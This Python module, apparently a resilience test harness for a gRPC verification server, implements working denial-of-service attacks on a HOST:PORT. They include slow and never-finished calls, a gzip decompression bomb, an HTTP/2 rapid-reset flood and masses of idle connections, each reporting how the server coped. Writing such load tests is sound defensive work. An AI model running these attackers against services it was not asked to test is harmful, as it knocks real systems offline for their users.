# SPDX-License-Identifier: GPL-3.0-or-later
"""Attackers of a gRPC port that speak HTTP/2 by themselves, since gRPC's own clients cannot misbehave.

Each is called with HOST:PORT and seconds, runs for about so long in a process of its own, and returns what it did and saw:
connections, calls and bytes, calls that were ended by their status, connections that were closed to it.
"""

from __future__ import annotations

import gzip
import selectors
import socket
import struct
import time
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from typing import Any, Protocol

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import ConnectionTerminated, ResponseReceived, StreamEnded, StreamReset, TrailersReceived
from h2.exceptions import ProtocolError
from hpack import Encoder, NeverIndexedHeaderTuple

VERIFY = "/supervm.v1.Verification/Verify"
STREAM = "/supervm.v1.Verification/VerifyStream"
CHECK = "/grpc.health.v1.Health/Check"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"

CALLS, CONNECTIONS = 1100, 2
"""Calls without a message, over so many connections."""

UNFINISHED, UNFINISHED_BYTES = 900, 4 << 20
"""Messages that lack their last byte."""

BOMB_BYTES = 1 << 30
RESETS_AT_ONCE, FLOODS = 500, 8
IDLE_CONNECTIONS = 1100
PATIENCE = 0.02
REST = 0.005

PREFIX = struct.Struct(">BI")
FRAME = struct.Struct(">BHBBI")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + FRAME.pack(0, 0, 4, 0, 0)
HEADERS, RST_STREAM, END_HEADERS, CANCEL = 1, 3, 4, 8


@dataclass
class Tally:
    """What an attacker did and saw."""

    connections: int = 0
    closed: int = 0
    calls: int = 0
    sent: int = 0
    ended: Counter[str] = field(default_factory=Counter)

    def told(self) -> dict[str, Any]:
        """As an object of JSON."""
        return {
            "connections": self.connections,
            "closed": self.closed,
            "calls": self.calls,
            "bytes": self.sent,
            "ended": dict(self.ended),
        }


class Attacker:
    """One connection with calls whose messages never end; those that the server ends are made again.

    Args:
        address: HOST:PORT.
        path: of the calls.
        calls: at a time, or as many as the server allows.
        message: what is sent of each message.
        headers: of each call, beside the usual ones.
        whole: whether the message ends there, and the call.
        tally: counts.
    """

    def __init__(
        self,
        address: str,
        path: str,
        calls: int,
        tally: Tally,
        *,
        message: bytes = b"",
        headers: tuple[tuple[str, str], ...] = (),
        whole: bool = False,
    ) -> None:
        self._headers = [*usual_headers(path), *headers]
        self._calls, self._message, self._whole, self._tally = calls, message, whole, tally
        self._left: dict[int, memoryview] = {}
        self.socket = connected(address)
        self._http = H2Connection(H2Configuration(validate_outbound_headers=False))
        self._http.initiate_connection()
        tally.connections += 1

    def step(self) -> None:
        """Take what has come, and send what may be sent.

        Raises:
            OSError, ProtocolError: the server has closed the connection.
        """
        with suppress(BlockingIOError):
            while data := self.socket.recv(1 << 16):
                self._take(data)
            raise ConnectionResetError
        self._call()
        for call in list(self._left):
            self._send(call)
        self._flush()

    def _call(self) -> None:
        room = min(self._calls, self._http.remote_settings.max_concurrent_streams)
        while len(self._left) < room:
            call = self._http.get_next_available_stream_id()
            self._http.send_headers(call, self._headers)
            self._left[call] = memoryview(self._message)
            self._tally.calls += 1

    def _send(self, call: int) -> None:
        left = self._left[call]
        while left:
            room = min(self._http.local_flow_control_window(call), self._http.max_outbound_frame_size)
            if not room:
                break
            part, left = left[:room], left[room:]
            self._http.send_data(call, bytes(part), end_stream=self._whole and not left)
            self._tally.sent += len(part)
        self._left[call] = left
        self._flush()

    def _flush(self) -> None:
        data = self._http.data_to_send()
        if data:
            self.socket.settimeout(1.0)
            self.socket.sendall(data)
            self.socket.setblocking(False)

    def _take(self, data: bytes) -> None:
        for event in self._http.receive_data(data):
            if isinstance(event, (TrailersReceived, ResponseReceived)):
                status = dict(event.headers or ()).get(b"grpc-status")
                if status is not None:
                    self._tally.ended[status.decode()] += 1
            elif isinstance(event, (StreamReset, StreamEnded)):
                self._left.pop(event.stream_id, None)
            elif isinstance(event, ConnectionTerminated):
                raise ConnectionResetError


def usual_headers(path: str) -> list[tuple[str, str]]:
    """Of every call of gRPC."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "attacked"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
    ]


def connected(address: str) -> socket.socket:
    """A connection, which waits for nothing from now on."""
    host, _, port = address.rpartition(":")
    connection = socket.create_connection((host.strip("[]"), int(port)), timeout=5)
    connection.setblocking(False)
    return connection


class Connected(Protocol):
    """A connection at work."""

    socket: socket.socket

    def step(self) -> None:
        """A little of it."""


def attack(make: Callable[[Tally], Connected], count: int, seconds: float) -> dict[str, Any]:
    """Keep so many connections at work, and make those again that the server closes."""
    tally, until, attackers = Tally(), time.monotonic() + seconds, list[Connected]()
    while time.monotonic() < until:
        with suppress(OSError):
            while len(attackers) < count:
                attackers.append(make(tally))
        for attacker in list(attackers):
            try:
                attacker.step()
            except (OSError, ProtocolError):
                attackers.remove(attacker)
                attacker.socket.close()
                tally.closed += 1
        wait(attackers)
    for attacker in attackers:
        attacker.socket.close()
    return tally.told()


def wait(attackers: list[Connected]) -> None:
    """Until one of them has something to take, or for a moment."""
    with selectors.DefaultSelector() as selector:
        for attacker in attackers:
            selector.register(attacker.socket, selectors.EVENT_READ)
        selector.select(PATIENCE)
    time.sleep(REST)


def silent(path: str, address: str, seconds: float) -> dict[str, Any]:
    """Calls that send headers and never a message."""
    return attack(lambda tally: Attacker(address, path, CALLS // CONNECTIONS, tally), CONNECTIONS, seconds)


def silent_calls(address: str, seconds: float) -> dict[str, Any]:
    """1,100 calls of `Verify` that send headers and never a message."""
    return silent(VERIFY, address, seconds)


def silent_streams(address: str, seconds: float) -> dict[str, Any]:
    """1,100 streams that say nothing."""
    return silent(STREAM, address, seconds)


def silent_checks(address: str, seconds: float) -> dict[str, Any]:
    """1,100 checks of health that never ask."""
    return silent(CHECK, address, seconds)


def silent_reflection(address: str, seconds: float) -> dict[str, Any]:
    """1,100 streams of reflection that never ask."""
    return silent(REFLECTION, address, seconds)


def watches(address: str, seconds: float) -> dict[str, Any]:
    """1,100 watches of health."""
    message = PREFIX.pack(0, 0)  # of the whole server
    return attack(
        lambda tally: Attacker(address, WATCH, CALLS // CONNECTIONS, tally, message=message),
        CONNECTIONS,
        seconds,
    )


def unfinished(path: str, address: str, seconds: float) -> dict[str, Any]:
    """Messages of 4 MiB that lack their last byte."""
    message = PREFIX.pack(0, UNFINISHED_BYTES) + bytes(UNFINISHED_BYTES - 1)
    return attack(
        lambda tally: Attacker(address, path, UNFINISHED // CONNECTIONS, tally, message=message),
        CONNECTIONS,
        seconds,
    )


def unfinished_calls(address: str, seconds: float) -> dict[str, Any]:
    """900 requests of `Verify` of 4 MiB that lack their last byte."""
    return unfinished(VERIFY, address, seconds)


def unfinished_streams(address: str, seconds: float) -> dict[str, Any]:
    """900 streams whose first request lacks its last byte."""
    return unfinished(STREAM, address, seconds)


def bombs(address: str, seconds: float) -> dict[str, Any]:
    """Requests of a megabyte that gzip makes a gigabyte of."""
    packed = gzip.compress(bytes(BOMB_BYTES), 9)
    message = PREFIX.pack(1, len(packed)) + packed
    headers = (("grpc-encoding", "gzip"),)
    return attack(
        lambda tally: Attacker(address, VERIFY, 16, tally, message=message, headers=headers, whole=True),
        CONNECTIONS,
        seconds,
    )


class Flood:
    """A connection on which calls are made and given up at once.

    Args:
        address: HOST:PORT.
        tally: counts.
    """

    def __init__(self, address: str, tally: Tally) -> None:
        self.socket, self._tally = connected(address), tally
        self._frames, self._left = floods(VERIFY), memoryview(PREFACE)
        tally.connections += 1

    def step(self) -> None:
        """Send what may be sent, and take what has come.

        Raises:
            OSError: the server has closed the connection.
        """
        with suppress(BlockingIOError):
            while True:
                if not self._left:
                    self._left = memoryview(next(self._frames))
                    self._tally.calls += RESETS_AT_ONCE
                sent = self.socket.send(self._left)
                self._left = self._left[sent:]
                self._tally.sent += sent
        with suppress(BlockingIOError):
            while self.socket.recv(1 << 16):
                pass
            raise ConnectionResetError


def resets(address: str, seconds: float) -> dict[str, Any]:
    """Calls that are given up at once, as fast as they can be sent, over eight connections."""
    return attack(lambda tally: Flood(address, tally), FLOODS, seconds)


def floods(path: str) -> Iterator[bytes]:
    """Frames of calls with their resets, `RESETS_AT_ONCE` at a time, until a connection has no numbers left."""
    block = Encoder().encode([NeverIndexedHeaderTuple(*pair) for pair in usual_headers(path)])
    size = (len(block) >> 16, len(block) & 0xFFFF)
    ending = struct.pack(">I", CANCEL)
    for first in range(1, 1 << 31, 2 * RESETS_AT_ONCE):
        yield b"".join(
            FRAME.pack(*size, HEADERS, END_HEADERS, call)
            + block
            + FRAME.pack(0, 4, RST_STREAM, 0, call)
            + ending
            for call in range(first, first + 2 * RESETS_AT_ONCE, 2)
        )


def silent_connections(address: str, seconds: float) -> dict[str, Any]:
    """1,100 connections that say no more than that they speak HTTP/2."""
    tally, until = Tally(), time.monotonic() + seconds
    connections: list[socket.socket] = []
    while time.monotonic() < until:
        with suppress(OSError):
            while len(connections) < IDLE_CONNECTIONS:
                connections.append(connected(address))
                connections[-1].sendall(PREFACE)
                tally.connections += 1
        for connection in list(connections):
            if over(connection):
                connections.remove(connection)
                connection.close()
                tally.closed += 1
        time.sleep(PATIENCE)
    for connection in connections:
        connection.close()
    return tally.told()


def over(connection: socket.socket) -> bool:
    """Whether the server has closed it."""
    try:
        while connection.recv(1 << 16):
            pass
    except BlockingIOError:
        return False
    except OSError:
        pass
    return True
